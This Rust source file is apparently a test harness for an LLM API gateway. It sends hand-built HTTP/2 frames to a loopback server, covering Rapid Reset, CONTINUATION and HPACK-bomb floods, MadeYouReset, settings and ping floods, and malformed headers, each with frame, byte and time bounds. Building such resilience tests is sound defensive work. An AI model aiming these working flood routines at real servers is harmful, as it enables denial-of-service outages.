//! HTTP/2 attacks in raw frames: what no client library would send.
//!
//! Each attack is bounded in frames, bytes and time, goes to loopback only, and returns what the server did; what
//! must hold meanwhile (a healthy client's latency, memory, journals) is the test's to measure. Plain HTTP/2 with
//! prior knowledge.

mod frames;

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::time::{Instant, timeout_at};

use crate::journal::lock;
use frames::{Frame, Headers, kind};

/// The attacks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Attack {
    /// Not an attack: one good request, to see that the rest is told apart from a server that is not there.
    Plain,
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (CVE-2024-27316 and kin).
    ContinuationFlood,
    /// Requests that the server itself is made to reset, by window updates of 0 (CVE-2025-8671).
    MadeYouReset,
    /// One large header in the table, then many references to it of a byte each.
    HpackBomb,
    /// Settings that want an acknowledgement each.
    SettingsFlood,
    /// Pings that want an answer each.
    PingFlood,
    /// Empty data frames without an end.
    EmptyData,
    /// Requests without a window to answer into.
    WindowZero,
    /// `transfer-encoding` in a request.
    TransferEncoding,
    /// `connection` in a request.
    ConnectionHeader,
    /// A `content-length` that is not the body's.
    LengthMismatch,
    /// A header name in capitals.
    UpperCase,
}

impl Attack {
    /// Every attack.
    pub const ALL: [Self; 13] = [
        Self::Plain,
        Self::RapidReset,
        Self::ContinuationFlood,
        Self::MadeYouReset,
        Self::HpackBomb,
        Self::SettingsFlood,
        Self::PingFlood,
        Self::EmptyData,
        Self::WindowZero,
        Self::TransferEncoding,
        Self::ConnectionHeader,
        Self::LengthMismatch,
        Self::UpperCase,
    ];
}

/// Where an attack goes, as whom, and its bounds.
#[derive(Debug, Clone)]
pub struct Target {
    /// The server: loopback only.
    pub addr: SocketAddr,
    /// A good virtual key.
    pub key: String,
    /// The model of the requests.
    pub model: String,
    /// Most frames of the attack.
    pub frames: u64,
    /// Most bytes.
    pub bytes: u64,
    /// Most time, answers included.
    pub time: Duration,
}

/// What the server did.
#[derive(Debug, Clone, Serialize)]
pub struct Outcome {
    /// The attack.
    pub attack: Attack,
    /// Frames sent before the server stopped it or the bound was reached.
    pub sent: u64,
    /// Bytes sent.
    pub sent_bytes: u64,
    /// What was received.
    pub received: Received,
    /// Seconds until the server closed or time was up.
    pub seconds: f64,
}

/// What a server sent.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Received {
    /// The error code of its GOAWAY.
    pub goaway: Option<u32>,
    /// The text in it.
    pub goaway_says: Option<String>,
    /// Streams that it reset.
    pub resets: u64,
    /// The code of the last of those.
    pub reset_code: Option<u32>,
    /// Answers (header frames).
    pub answers: u64,
    /// Answers with status 200.
    pub ok: u64,
    /// Acknowledgements of settings and pings.
    pub acknowledged: u64,
    /// Bytes of bodies.
    pub data: u64,
    /// It closed the connection.
    pub closed: bool,
}

/// Makes one attack over one connection with the usual bounds: 20,000 frames, 32 MiB, 2 seconds, and a key that is no
/// key (floods come before authentication).
///
/// # Errors
/// When the address is not loopback or cannot be connected to.
pub async fn run(kind: Attack, addr: SocketAddr) -> anyhow::Result<Outcome> {
    let (frames, bytes, time) = (20_000, 32 << 20, Duration::from_secs(2));
    attack(&Target { addr, key: "none".to_owned(), model: "none".to_owned(), frames, bytes, time }, kind)
        .await
}

/// Makes one attack over one connection.
///
/// # Errors
/// When the address is not loopback or cannot be connected to.
pub async fn attack(target: &Target, attack: Attack) -> anyhow::Result<Outcome> {
    anyhow::ensure!(target.addr.ip().is_loopback(), "`{}` is not a loopback address", target.addr);
    let stream = TcpStream::connect(target.addr).await?;
    stream.set_nodelay(true)?;
    let (reader, writer) = stream.into_split();
    let received = Arc::new(Mutex::new(Received::default()));
    let start = Instant::now();
    let deadline = start + target.time;
    let enough = matches!(attack, Attack::Plain).then_some(1);
    let reading = tokio::spawn(read(reader, Arc::clone(&received), enough));
    let mut session = Session { writer, target, sent: 0, sent_bytes: 0 };
    // An error means that the server has had enough, which is a good answer.
    let _ = timeout_at(deadline, session.play(attack)).await;
    let mut reading = reading;
    if timeout_at(deadline, &mut reading).await.is_err() {
        reading.abort();
    }
    let received = lock(&received).clone();
    let Session { sent, sent_bytes, .. } = session;
    Ok(Outcome { attack, sent, sent_bytes, received, seconds: start.elapsed().as_secs_f64() })
}

async fn read(mut reader: OwnedReadHalf, received: Arc<Mutex<Received>>, enough: Option<u64>) {
    let mut head = [0; 9];
    loop {
        if reader.read_exact(&mut head).await.is_err() {
            lock(&received).closed = true;
            return;
        }
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let mut payload = vec![0; length];
        if reader.read_exact(&mut payload).await.is_err() {
            lock(&received).closed = true;
            return;
        }
        let mut received = lock(&received);
        let word =
            |at: usize| payload.get(at..at + 4).and_then(|word| word.try_into().ok()).map(u32::from_be_bytes);
        let end = head[4] & 1 == 1;
        match head[3] {
            kind::DATA => received.data += length as u64,
            kind::HEADERS => {
                received.answers += 1;
                // Index 8 of the static table is `:status: 200`, which every encoder uses.
                received.ok += u64::from(payload.first() == Some(&0x88));
            }
            kind::RST_STREAM => {
                received.resets += 1;
                received.reset_code = word(0);
            }
            kind::SETTINGS | kind::PING if end => received.acknowledged += 1,
            kind::GOAWAY => {
                received.goaway = word(4);
                received.goaway_says =
                    Some(String::from_utf8_lossy(payload.get(8..).unwrap_or(&[])).into_owned());
            }
            _ => {}
        }
        let ended = end && matches!(head[3], kind::DATA | kind::HEADERS);
        if ended && enough.is_some_and(|enough| received.answers >= enough) {
            return;
        }
    }
}

/// The writing side of an attack.
struct Session<'a> {
    writer: OwnedWriteHalf,
    target: &'a Target,
    sent: u64,
    sent_bytes: u64,
}

type Sent = std::io::Result<()>;

impl Session<'_> {
    async fn play(&mut self, attack: Attack) -> Sent {
        let window = if attack == Attack::WindowZero { Some(0) } else { None };
        self.open(window).await?;
        match attack {
            Attack::Plain => self.request(1, |headers| headers).await,
            Attack::RapidReset => self.rapid_reset().await,
            Attack::ContinuationFlood => self.continuations().await,
            Attack::MadeYouReset => self.made_you_reset().await,
            Attack::HpackBomb => self.hpack_bomb().await,
            Attack::SettingsFlood => {
                let settings = Frame::new(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]);
                self.flood(&settings).await
            }
            Attack::PingFlood => self.flood(&Frame::new(kind::PING, 0, 0, b"tidegate")).await,
            Attack::EmptyData => {
                let headers = self.headers();
                self.send(&Frame::new(kind::HEADERS, END_HEADERS, 1, &headers.encode())).await?;
                self.flood(&Frame::new(kind::DATA, 0, 1, b"")).await
            }
            Attack::WindowZero => {
                for stream in self.streams() {
                    self.request(stream, |headers| headers).await?;
                }
                Ok(())
            }
            Attack::TransferEncoding => {
                self.request(1, |headers| headers.with("transfer-encoding", "chunked")).await
            }
            Attack::ConnectionHeader => {
                self.request(1, |headers| headers.with("connection", "keep-alive")).await
            }
            Attack::LengthMismatch => self.request(1, |headers| headers.with("content-length", "5")).await,
            Attack::UpperCase => self.request(1, |headers| headers.with("X-Odd", "1")).await,
        }
    }

    async fn open(&mut self, window: Option<u32>) -> Sent {
        self.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        let settings = match window {
            Some(window) => [&[0, 4][..], &window.to_be_bytes()].concat(),
            None => Vec::new(),
        };
        self.send(&Frame::new(kind::SETTINGS, 0, 0, &settings)).await?;
        self.send(&Frame::new(kind::SETTINGS, ACK, 0, b"")).await
    }

    async fn rapid_reset(&mut self) -> Sent {
        let headers = self.headers().encode();
        for stream in self.streams() {
            self.send(&Frame::new(kind::HEADERS, END_HEADERS, stream, &headers)).await?;
            self.send(&Frame::new(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes())).await?;
        }
        Ok(())
    }

    async fn continuations(&mut self) -> Sent {
        let headers = self.headers().encode();
        self.send(&Frame::new(kind::HEADERS, 0, 1, &headers)).await?;
        let more = Headers::default().with("x-flood", &"x".repeat(8 << 10)).encode();
        self.flood(&Frame::new(kind::CONTINUATION, 0, 1, &more)).await
    }

    async fn made_you_reset(&mut self) -> Sent {
        for stream in self.streams() {
            self.request(stream, |headers| headers).await?;
            self.send(&Frame::new(kind::WINDOW_UPDATE, 0, stream, &[0; 4])).await?;
        }
        Ok(())
    }

    async fn hpack_bomb(&mut self) -> Sent {
        let first = self.headers().indexed("x-bomb", &"x".repeat(3_900)).encode();
        self.send(&Frame::new(kind::HEADERS, END_HEADERS, 1, &first)).await?;
        // 62 is the newest entry of the dynamic table.
        let references = vec![0x80 | 62; 16_000];
        let bomb = [self.headers().encode(), references].concat();
        for stream in self.streams().skip(1) {
            self.send(&Frame::new(kind::HEADERS, END_HEADERS, stream, &bomb[..bomb.len().min(16_384)]))
                .await?;
        }
        Ok(())
    }

    /// The same frame, over and over.
    async fn flood(&mut self, frame: &Frame) -> Sent {
        let each = frame.0.len();
        let together = frame.0.repeat((16 << 10) / each.max(1) + 1);
        while !self.full() {
            self.write(&together).await?;
            self.sent += (together.len() / each) as u64;
        }
        Ok(())
    }

    fn full(&self) -> bool {
        self.sent >= self.target.frames || self.sent_bytes >= self.target.bytes
    }

    /// Stream numbers, as many as frames are allowed.
    fn streams(&self) -> impl Iterator<Item = u32> + use<> {
        let most = u32::try_from(self.target.frames / 2).unwrap_or(u32::MAX).min(1 << 20);
        (0..most).map(|number| 2 * number + 1)
    }

    fn headers(&self) -> Headers {
        Headers::default()
            .with(":method", "POST")
            .with(":scheme", "http")
            .with(":path", "/v1/chat/completions")
            .with(":authority", &self.target.addr.to_string())
            .with("content-type", "application/json")
            .with("authorization", &format!("Bearer {}", self.target.key))
    }

    async fn request(&mut self, stream: u32, change: impl FnOnce(Headers) -> Headers) -> Sent {
        let body =
            format!(r#"{{"model":"{}","messages":[{{"role":"user","content":"hi"}}]}}"#, self.target.model);
        let headers = change(self.headers()).encode();
        self.send(&Frame::new(kind::HEADERS, END_HEADERS, stream, &headers)).await?;
        self.send(&Frame::new(kind::DATA, END_STREAM, stream, body.as_bytes())).await
    }

    async fn send(&mut self, frame: &Frame) -> Sent {
        if self.full() {
            return Ok(());
        }
        self.write(&frame.0).await?;
        self.sent += 1;
        Ok(())
    }

    async fn write(&mut self, bytes: &[u8]) -> Sent {
        self.writer.write_all(bytes).await?;
        self.sent_bytes += bytes.len() as u64;
        Ok(())
    }
}

const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

#[cfg(test)]
mod tests;
